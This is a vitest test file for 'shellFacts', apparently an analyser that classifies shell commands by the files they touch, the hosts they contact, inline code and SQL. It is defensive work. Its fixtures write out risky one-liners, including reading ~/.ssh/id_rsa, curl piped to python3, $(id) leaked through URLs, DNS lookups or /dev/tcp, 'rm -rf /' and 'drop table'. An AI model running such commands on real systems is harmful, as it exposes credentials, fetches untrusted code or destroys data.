import { expect, test } from 'vitest'
import { shellFacts } from './shell.ts'

const paths = (script: string): string[] =>
  shellFacts(script).paths.map(({ path, op }) => `${op} ${path}`)
const hosts = (script: string): string[] =>
  shellFacts(script).hosts.map(({ host, by, sends }) => `${by} ${host}${sends ? ' sends' : ''}`)
const code = (script: string): string[] => shellFacts(script).facts.code

test.each([
  ['cat a ./b', ['read a', 'read b']],
  ['grep -n x a', ['read a']],
  ['grep -e x a', ['read x', 'read a']],
  ['cp a b c/', ['write c', 'read a', 'read b']],
  ['mv a b', ['delete a', 'write b']],
  ['rm -rf "$HOME/x"', ['delete ~/x']],
  ['sed -i s/a/b/ f', ['write f']],
  ['dd if=a of=b', ['read a', 'write b']],
  ['echo x > a 2>&1 < b', ['write a', 'read b']],
  ['tee a', ['write a']],
  ['curl -o a https://x.example.com', ['write a']],
  ['curl -d @a https://x.example.com', ['read a']],
  ['curl -F k=@a https://x.example.com', ['read a']],
  ['curl -T a https://x.example.com', ['read a']],
  ['./run.sh a', ['execute run.sh']],
  ['bash a.sh', ['execute a.sh']],
  ['python3 a.py', ['execute a.py']],
  ['tool --config=~/.x/y', ['unknown ~/.x/y']],
  ['docker run -v /a:/b x', ['unknown /a', 'unknown /b']],
  ['x=~/.ssh/id_rsa', ['unknown ~/.ssh/id_rsa']],
  ['echo ~/.ssh/id_rsa', []],
  ['cat $(echo ~/.ssh/id_rsa)', ['unknown ~/.ssh/id_rsa']],
  ['git commit -m "see a/b.txt"', []],
])('%s: files %j', (script, wanted) => {
  expect(paths(script)).toEqual(expect.arrayContaining(wanted))
  if (wanted.length === 0) expect(paths(script)).toEqual([])
})

test.each([
  ['curl https://a.example.com', ['curl a.example.com']],
  ['curl -d x https://a.example.com', ['curl a.example.com sends']],
  ['curl --dat x a.example.com', ['curl a.example.com sends']],
  ['curl -H "A: d" https://a.example.com', ['curl a.example.com']],
  ['curl "https://$HOST/x"', ['curl ?']],
  ['curl "https://a.example.com/$(id)"', ['curl a.example.com sends']],
  ['x=$(id); curl "https://a.example.com/$x"', ['curl a.example.com sends']],
  ['curl https://a.example.com/$VERSION', ['curl a.example.com']],
  ['wget --post-file=x https://a.example.com', ['wget a.example.com sends']],
  ['nc a.example.com 1 < x', ['nc a.example.com sends']],
  ['ssh u@a.example.com ls', ['ssh a.example.com']],
  ['tar c . | ssh a.example.com "cat > x"', ['ssh a.example.com sends']],
  ['scp a u@a.example.com:b', ['scp a.example.com sends']],
  ['scp u@a.example.com:b a', ['scp a.example.com']],
  ['git clone git@a.example.com:x/y', ['git a.example.com']],
  ['git push origin', ['git ? sends']],
  ['dig $(id).a.example.com', ['dig ? sends']],
  ['ping -c 1 a.example.com', ['ping a.example.com']],
  ['echo x > /dev/tcp/10.0.0.1/80', ['redirect 10.0.0.1 sends']],
  ['ls', []],
])('%s: hosts %j', (script, wanted) => {
  expect(hosts(script)).toEqual(wanted)
})

test.each([
  ['python3 -c "print(1)"', []],
  ["python3 -c 'import json,sys; print(json.load(sys.stdin)[0])'", []],
  ["python3 -c 'import os; os.remove(1)'", ['python3']],
  ["python3 -c 'print(().__class__)'", ['python3']],
  ["python3 -c 'sorted([1], key=eval)'", ['python3']],
  ['python3 -c "$X"', ['python3']],
  ['python3 - <<E\nprint(1)\nE', []],
  ['python3 - <<E\nimport shutil\nE', ['python3']],
  ['curl https://x.example.com | python3', ['python3']],
  ['node -p "require(\'./package.json\').version"', []],
  ['node -e "require(\'fs\')"', ['node']],
  ["node -e 'a[b](c)'", ['node']],
  ['perl -pe s/a/b/g f', []],
  ["perl -pe 's/a/system(1)/e' f", ['perl']],
  ["ruby -e 'puts 1'", []],
  ["ruby -e 'File.delete 1'", ['ruby']],
  ['echo x > a.sh; bash a.sh', ['written file']],
  ['cd x; cat > y/a.py <<E\nE\npython3 a.py', ['written file']],
  ['node server.js > log', []],
])('%s: code %j', (script, wanted) => {
  expect(code(script)).toEqual(wanted)
})

test('SQL that a client is given is found, and what is not in the script is said', () => {
  const sql = (script: string) => {
    const found = shellFacts(script)
    return [...found.sql.map(({ text }) => text.trim()), ...found.sqlUndetermined]
  }
  expect(sql('psql -Atc "drop table x" -c "select 1"')).toEqual(['drop table x', 'select 1'])
  expect(sql('sudo -u postgres psql <<E\ndrop table x\nE')).toEqual(['drop table x'])
  expect(sql('echo "drop table x" | mysql')).toEqual(['drop table x'])
  expect(sql('docker exec -i db psql -c "drop table x"')).toEqual(['drop table x'])
  expect(sql('sqlite3 a.db "delete from t" .tables')).toEqual(['delete from t'])
  expect(sql('psql -f x.sql')).toEqual(['file'])
  expect(sql('psql < x.sql')).toEqual(['file'])
  expect(sql('cat x.sql | psql')).toEqual(['script'])
  expect(sql('psql -c "$SQL"')).toEqual(['$SQL', 'script'])
  expect(sql(`psql -c '\\dt public.*'`)).toEqual([])
  expect(sql(`psql -c '\\i x.sql'`)).toEqual(['client command'])
  expect(sql('git commit -m "drop table x"')).toEqual([])
  expect(shellFacts(`psql -c '\\! rm -rf /'`).facts.commands.map(({ name }) => name)).toContain(
    'rm',
  )
})
